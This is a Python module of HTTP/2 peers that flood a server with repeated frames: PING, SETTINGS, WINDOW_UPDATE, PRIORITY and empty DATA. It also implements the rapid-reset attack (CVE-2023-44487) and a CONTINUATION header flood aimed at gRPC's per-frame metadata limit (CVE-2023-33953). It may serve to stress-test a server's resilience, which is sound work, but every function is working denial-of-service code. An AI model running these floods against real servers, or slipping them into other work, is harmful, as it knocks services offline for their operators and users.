"""Peers that say one thing over and over, as fast as they can."""

import connection

# Frames in one write.
BATCH = 100


def _flood(dial, frame, count, opening=b""):
    """Sends a frame `count` times, and takes in nothing."""
    with dial() as peer:
        peer.greet()
        peer.send(opening)
        for _ in range(count // BATCH):
            if not peer.send(frame * BATCH):
                return


def pings(dial, count):
    """PING."""
    _flood(dial, connection.frame(connection.PING, 0, 0, bytes(8)), count)


def settings(dial, count):
    """SETTINGS, each of which wants an acknowledgement."""
    change = connection.setting(connection.SETTINGS_INITIAL_WINDOW_SIZE, 65535)
    _flood(dial, connection.frame(connection.SETTINGS, 0, 0, change), count)


def window_updates(dial, count):
    """WINDOW_UPDATE of one byte."""
    one = (1).to_bytes(4, "big")
    _flood(dial, connection.frame(connection.WINDOW_UPDATE, 0, 0, one), count)


def priorities(dial, count):
    """PRIORITY of a stream that does not exist."""
    _flood(dial, connection.frame(connection.PRIORITY, 0, 1, bytes(5)), count)


def empty_data(dial, count):
    """DATA without a byte, in a call that does not end."""
    with dial() as model:
        opening = model.headers(connection.request_headers())
    _flood(dial, connection.frame(connection.DATA, 0, 1), count, opening)


def rapid_resets(dial, count):
    """Calls that are taken back at once (CVE-2023-44487). Goes on with a new
    connection when one is closed."""
    cancel = connection.ERROR_CANCEL.to_bytes(4, "big")
    headers = connection.request_headers(connection.LONG_LIST)
    request = connection.message(connection.LONG_LIST_REQUEST)
    done = 0
    while done < count:
        with dial() as peer:
            if not peer.greet():
                return
            while done < count:
                batch = b""
                for _ in range(BATCH):
                    batch += peer.headers(headers)
                    stream = peer.last_stream
                    batch += connection.frame(
                        connection.DATA, connection.END_STREAM, stream, request
                    )
                    batch += connection.frame(connection.RST_STREAM, 0, stream, cancel)
                done += BATCH
                if not peer.send(batch):
                    break


def continuations(dial, count):
    """Headers without an end (CVE-2023-33953): `count` frames of 7 KB, each below
    the limit of metadata, which gRPC counts by frame."""
    # A literal that is not indexed: a name of one byte, a value of 7000.
    field = b"\x00\x01a\x7f\xd9\x35" + b"b" * 7000
    more = connection.frame(connection.CONTINUATION, 0, 1, field)
    with dial() as peer:
        peer.greet()
        peer.send(peer.headers(connection.request_headers(), flags=0))
        for _ in range(count):
            if not peer.send(more):
                return
